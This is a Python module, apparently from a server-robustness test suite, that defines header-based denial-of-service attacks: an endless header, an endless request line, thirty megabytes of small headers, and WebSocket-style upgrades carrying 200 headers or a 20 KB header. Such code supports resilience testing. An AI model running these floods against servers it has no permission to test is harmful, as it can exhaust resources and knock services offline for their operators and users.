"""Attacks by the head of a request: endless, huge, or larger than a library expects."""

from __future__ import annotations

import asyncio
import time
from typing import Final

from attacks.by_frames import MADE_UP
from attacks.raw import MEGABYTE, ROUND_TRIP, Attack, Flood, Report, Target, flood
from attacks.wire import TROUBLE, Visitor

THIRTY_MEGABYTES: Final = 30 * MEGABYTE
LETTERS: Final = b"a" * 32768
SMALL_HEADERS: Final = b"x: y\r\n" * 5000
# Who has no answer to an upgrade by then calls it hanging.
HANGS: Final = 3.0


def endless_header(visitor: Visitor) -> bytes:
    return visitor.head("GET", "/", "X-Long: ")[:-4]


def endless_address(visitor: Visitor) -> bytes:
    return b"GET /"


def many_headers(visitor: Visitor) -> bytes:
    return visitor.head("GET", "/")[:-2]


def pouring(opening: Flood) -> Attack:
    async def attack(target: Target) -> Report:
        return await flood(target, opening)

    return attack


def upgrading(*lines: str) -> Attack:
    """Upgrades with these headers more, one after another: are they answered at all?"""

    async def attack(target: Target) -> Report:
        answers: dict[str, int] = {}
        while target.is_time_left():
            answer = await _answer_to(target, lines)
            answers[answer] = answers.get(answer, 0) + 1
            await asyncio.sleep(ROUND_TRIP)
        return {"answers": answers}

    return attack


async def _answer_to(target: Target, lines: tuple[str, ...]) -> str:
    began = time.monotonic()
    try:
        reader, writer = await target.visitor.connected()
    except OSError:
        return "no connection"
    try:
        writer.write(target.visitor.upgrade(MADE_UP, *lines))
        async with asyncio.timeout(min(HANGS, target.seconds_left())):
            return (await reader.readuntil(b"\r\n")).split()[1].decode()
    except TimeoutError:
        return "hangs" if time.monotonic() - began > HANGS - 1 else "no time left"
    except TROUBLE:
        return "closed"
    finally:
        writer.transport.abort()


ATTACKS: Final[dict[str, Attack]] = {
    "endless_header": pouring(Flood(endless_header, LETTERS, THIRTY_MEGABYTES)),
    "endless_address": pouring(Flood(endless_address, LETTERS, THIRTY_MEGABYTES)),
    "thirty_megabytes_of_headers": pouring(Flood(many_headers, SMALL_HEADERS, THIRTY_MEGABYTES)),
    "upgrade_with_200_headers": upgrading(*[f"X-{number}: y" for number in range(200)]),
    "upgrade_with_a_20_kb_header": upgrading("X-Large: " + "a" * 20_000),
}
